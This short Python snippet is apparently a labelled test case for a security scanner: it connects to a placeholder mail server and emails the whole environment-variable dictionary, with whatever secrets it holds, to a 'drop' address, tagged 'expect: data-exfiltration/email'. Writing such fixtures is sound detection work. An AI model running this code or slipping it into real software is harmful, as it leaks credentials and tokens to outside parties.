import os
import smtplib

server = smtplib.SMTP("mail.collect.example")
server.sendmail("a@acme.example", "drop@collect.example", str(dict(os.environ))) # expect: data-exfiltration/email
